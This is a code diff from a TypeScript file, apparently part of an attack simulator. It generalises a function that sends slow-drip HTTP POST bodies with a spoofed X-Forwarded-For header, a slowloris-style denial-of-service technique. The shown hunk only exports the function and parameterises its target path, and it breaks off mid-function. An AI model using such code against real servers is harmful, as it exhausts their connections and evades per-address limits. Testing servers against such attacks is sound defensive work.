@@ -10,13 +10,18 @@ const BYTE_EVERY_MS = 500
 /** Before somebody who was turned away tries again. */
 const AGAIN_MS = 1_000
 
-/** One form that comes a byte at a time, until it is answered or the attack ends. */
-function stall(address: string, sender: string, isStopped: () => boolean): Promise<string> {
+/** One body that comes a byte at a time, until it is answered or the attack ends. */
+export function stall(
+  address: string,
+  sender: string,
+  isStopped: () => boolean,
+  path = '/contact-us',
+): Promise<string> {
   const { promise, resolve } = Promise.withResolvers<string>()
   const { hostname, port } = new URL(address)
   const socket = connect(Number(port), hostname, () => {
     socket.write(
-      `POST /contact-us HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${sender}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 2000\r\n\r\n`,
+      `POST ${path} HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${sender}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 2000\r\n\r\n`,
     )
   })
   const timer = setInterval(() => {
